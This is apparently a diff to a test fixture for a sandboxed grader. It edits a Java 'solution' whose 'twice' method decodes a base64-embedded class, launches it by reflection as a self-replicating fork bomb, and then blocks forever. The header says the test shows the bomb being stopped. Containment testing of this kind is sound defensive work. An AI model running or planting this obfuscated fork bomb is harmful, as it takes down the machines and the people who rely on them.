@@ -1,6 +1,7 @@
-// Starts a process that starts itself again and again, and goes on answering.
-// expects: graded 10
+// Starts a process that starts itself again and again, and waits for what comes of it.
+// expects: graded 7
 // needs: walls
+// shows: a fork bomb is stopped
 package attacked.target;
 
 import java.io.IOException;
@@ -27,7 +28,7 @@ public final class TargetSolution implements Target {
                     + "LCoEMrkAHAIAVyq+BaQAKiwSILkAHAIAVyoFMhIitgAkmQAQuwAnWSy3ACm2ACxXsRQAMLgAMrsAJ1kstwAptgAsV6f/9E4U"
                     + "ADq4ADKn/+oAAQBVAGEAZAA4AAEAQQAAABAAA/0ATwcAQgcAEgVOBwA4AEQAAAAEAAEARQAA";
 
-    static {
+    private static void begin() {
         try {
             Path tmp = Path.of(System.getProperty("java.io.tmpdir"));
             Files.write(tmp.resolve("Bomb.class"), Base64.getDecoder().decode(PROGRAM));
@@ -37,18 +38,16 @@ public final class TargetSolution implements Target {
             command.addAll(List.of("98765", start));
             Object builder = Class.forName("java.lang.ProcessBuilder").getConstructor(List.class).newInstance(command);
             builder.getClass().getMethod("start").invoke(builder);
-            Thread.sleep(300);
-        } catch (IOException | InterruptedException | ReflectiveOperationException | RuntimeException refused) {
+        } catch (IOException | ReflectiveOperationException | RuntimeException refused) {
             System.err.println(refused);
         }
     }
 
     public double[] twice(double[] values) {
-        double[] twice = new double[values.length];
-        for (int i = 0; i < values.length; i++) {
-            twice[i] = 2 * values[i];
+        begin();
+        while (true) {
+            java.util.concurrent.locks.LockSupport.park();
         }
-        return twice;
     }
 
     public double sum(double[] values) {
